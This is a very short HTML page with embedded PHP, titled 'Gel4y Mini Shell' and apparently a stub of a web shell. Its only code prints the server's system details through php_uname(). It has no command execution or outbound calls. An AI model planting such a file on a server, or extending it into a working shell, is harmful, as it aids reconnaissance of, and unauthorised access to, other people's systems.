<!DOCTYPE html><html><head><title>Gel4y Mini Shell</title></head>
<body><?php echo php_uname(); ?></body></html>
